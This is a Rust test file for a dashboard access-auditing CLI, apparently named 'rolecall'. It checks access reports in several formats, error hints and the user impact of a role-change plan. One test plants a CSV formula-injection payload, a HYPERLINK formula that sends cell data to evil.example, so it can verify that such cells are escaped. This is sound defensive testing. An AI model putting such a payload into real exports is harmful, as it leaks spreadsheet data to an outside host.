//! `rolecall access`, and the effect of a plan on people.

use crate::{rolecall as run, root, transcript};

fn access(extra: &[&str]) -> String {
    let args = [
        &["access", "--sandbox", "examples/data-org/sandbox.json"][..],
        extra,
    ]
    .concat();
    let output = run(&root(), &args);
    assert_eq!(output.status.code(), Some(0), "{}", transcript(&output));
    String::from_utf8(output.stdout).unwrap()
}

/// A dashboard named `=HYPERLINK(…)` on the site: in `access --format csv`,
/// opened in a spreadsheet, it was a formula that sends data away on a
/// click. Every cell that starts like a formula is text now.
#[test]
fn a_formula_in_a_dashboard_name_is_text_in_the_csv() {
    let mut site: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(root().join("examples/small-team/sandbox.json")).unwrap(),
    )
    .unwrap();
    let evil = r#"=HYPERLINK("http://evil.example/?x="&A1,"Revenue")"#;
    site["dashboards"].as_array_mut().unwrap().extend([
        serde_json::json!({"id": "9999", "name": evil}),
        serde_json::json!({"id": "9998", "name": "@SUM(1+1)"}),
    ]);
    let dir = tempfile::tempdir().unwrap();
    let snapshot = dir.path().join("site.json");
    std::fs::write(&snapshot, site.to_string()).unwrap();
    let out = run(
        &root(),
        &[
            "access",
            "--sandbox",
            snapshot.to_str().unwrap(),
            "-f",
            "examples/small-team",
            "--format",
            "csv",
            "--expand-admins",
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", transcript(&out));
    let csv = String::from_utf8_lossy(&out.stdout);
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let mut seen = 0;
    for record in reader.records() {
        let record = record.unwrap();
        for cell in record.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula cell: {cell:?}"
            );
        }
        if record.get(1) == Some("9999") {
            assert_eq!(record.get(2), Some(format!("'{evil}").as_str()));
            seen += 1;
        }
    }
    assert!(seen > 0, "the hostile dashboard is listed: {csv}");
}

#[test]
fn access_in_every_format() {
    insta::assert_snapshot!(access(&["--dashboard", "Cash Flow"]), @r#"
    Access on the site `globex` (live, model cross-role):

    old.timer@globex.io
      "Cash Flow" (#80002): read_dashboards  via Builder (privilege read_dashboards), Finance (grant read_dashboards)

    priya@globex.io
      "Cash Flow" (#80002): edit_dashboard_settings, read_dashboards  via Builder (privilege read_dashboards), Dashboard Owners (privilege edit_dashboard_settings), Data Team (grant edit_dashboard_settings, read_dashboards)

    ruth@globex.io
      "Cash Flow" (#80002): read_dashboards  via Finance (grant read_dashboards), Viewer (privilege read_dashboards)

    ceo@globex.io: every action on every dashboard, via Admin
    platform-bot@globex.io: every action on every dashboard, via Admin
    "#);
    insta::assert_snapshot!(access(&["--user", "priya@globex.io", "--action", "edit_dashboard_settings", "--format", "csv"]), @r"
    user,dashboard_id,dashboard,action,privilege_from,grant_from
    priya@globex.io,80003,Campaign Performance,edit_dashboard_settings,Dashboard Owners,Data Team
    priya@globex.io,80002,Cash Flow,edit_dashboard_settings,Dashboard Owners,Data Team
    priya@globex.io,80005,Pipeline Health,edit_dashboard_settings,Dashboard Owners,Data Team
    priya@globex.io,80001,Revenue Overview,edit_dashboard_settings,Dashboard Owners,Data Team
    priya@globex.io,80004,Web Traffic,edit_dashboard_settings,Dashboard Owners,Data Team
    ");
    insta::assert_snapshot!(access(&["--role", "Finance", "--dashboard", "#80001", "--format", "markdown"]), @r"
    ### Access on the site `globex` (live, model cross-role)

    | user | dashboard | actions | via |
    |---|---|---|---|
    | old.timer@globex.io | Revenue Overview (#80001) | read_dashboards | Builder (privilege read_dashboards), Finance (grant read_dashboards) |
    | ruth@globex.io | Revenue Overview (#80001) | read_dashboards | Finance (grant read_dashboards), Viewer (privilege read_dashboards) |
    ");
    let json: serde_json::Value =
        serde_json::from_str(&access(&["--user", "ceo@globex.io", "--format", "json"])).unwrap();
    assert_eq!(json["model"], "cross-role");
    assert_eq!(json["source"], "live");
    assert_eq!(json["admins"], serde_json::json!(["ceo@globex.io"]));
    assert_eq!(
        json["grants"].as_array().unwrap().len(),
        0,
        "admins are summarised"
    );
    let expanded: serde_json::Value = serde_json::from_str(&access(&[
        "--user",
        "ceo@globex.io",
        "--format",
        "json",
        "--expand-admins",
    ]))
    .unwrap();
    assert_eq!(
        expanded["grants"].as_array().unwrap().len(),
        7,
        "every dashboard"
    );
    // The stricter model: priya's privileges and grants come from different roles.
    let strict = access(&["--user", "priya@globex.io", "--model", "same-role"]);
    assert!(
        strict.contains("model same-role") && strict.contains("No access matches."),
        "{strict}"
    );
    // --desired: the config as applied, against the live dashboards.
    let output = run(
        &root(),
        &[
            "access",
            "--sandbox",
            "examples/data-org/sandbox.json",
            "-f",
            "examples/data-org",
            "--desired",
            "--user",
            "kai@globex.io",
        ],
    );
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        stdout.contains("(desired, model cross-role)")
            && stdout.contains("\"Campaign Performance\" (#80003): read_dashboards"),
        "{}",
        transcript(&output)
    );
    let bad = run(
        &root(),
        &[
            "access",
            "--sandbox",
            "examples/data-org/sandbox.json",
            "--dashboard",
            "Cash Flw",
        ],
    );
    assert_eq!(bad.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&bad.stderr).contains("did you mean `Cash Flow`?"));
    // An action that does not exist is an error too, not "No access matches."
    let bad = run(
        &root(),
        &[
            "access",
            "--sandbox",
            "examples/data-org/sandbox.json",
            "--action",
            "read_dashbords",
        ],
    );
    assert_eq!(bad.status.code(), Some(1), "{}", transcript(&bad));
    assert!(bad.stdout.is_empty());
    insta::assert_snapshot!(String::from_utf8_lossy(&bad.stderr), @r"
    error: `read_dashbords` is not an action

    hint: did you mean `read_dashboards`?
    ");
}

/// A role change that reaches many users shows its effect on people, and a
/// change to Everyone is tagged `everyone-exposure`.
#[test]
fn a_plan_shows_its_effect_on_people() {
    let dir = tempfile::tempdir().unwrap();
    let mut site: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(root().join("examples/data-org/sandbox.json")).unwrap(),
    )
    .unwrap();
    // 150 more viewers.
    for i in 0..150 {
        site["users"].as_array_mut().unwrap().push(serde_json::json!({
            "id": format!("v{i}"), "email": format!("viewer{i}@globex.io"), "first_name": "V", "last_name": "W",
            "roles": ["d4c3f6b5"]
        }));
    }
    std::fs::write(dir.path().join("site.json"), site.to_string()).unwrap();
    std::fs::write(
        dir.path().join("rolecall.yaml"),
        "site: globex\nactor: platform-bot@globex.io\nroles:\n  Viewer:\n    description: Reads dashboards shared with them\n    privileges:\n      Dashboard: [read_dashboards, download_pdf]\n    dashboards:\n      \"#80412\": [read_dashboards, download_pdf]\n  Everyone:\n    description: Every user of the site\n    privileges:\n      Dashboard: [read_dashboards]\nusers:\n  platform-bot@globex.io:\n    roles: [Admin]\n",
    )
    .unwrap();
    let output = run(dir.path(), &["plan", "--sandbox", "site.json"]);
    assert_eq!(output.status.code(), Some(0), "{}", transcript(&output));
    let text = String::from_utf8_lossy(&output.stdout);
    assert!(
        text.contains("# role \"Viewer\" will be updated  (rolecall.yaml:4)  [wide-grant]"),
        "{text}"
    );
    assert!(
        text.contains(
            "# role \"Everyone\" will be updated  (rolecall.yaml:10)  [everyone, everyone-exposure]"
        ),
        "{text}"
    );
    assert!(text.contains("Access (cross-role, admins left out): 153 users gain actions on dashboards, 0 users lose some."), "{text}");
    assert!(
        text.contains("153 users gain download_pdf on 1 dashboard"),
        "{text}"
    );
    let json = run(
        dir.path(),
        &["plan", "--sandbox", "site.json", "--format", "json"],
    );
    let value: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    let gained = value["access"]["gained"].as_array().unwrap();
    assert!(gained.iter().any(|g| g["user"] == "viewer7@globex.io"
        && g["action"] == "download_pdf"
        && g["dashboard_id"] == "80412"));
}
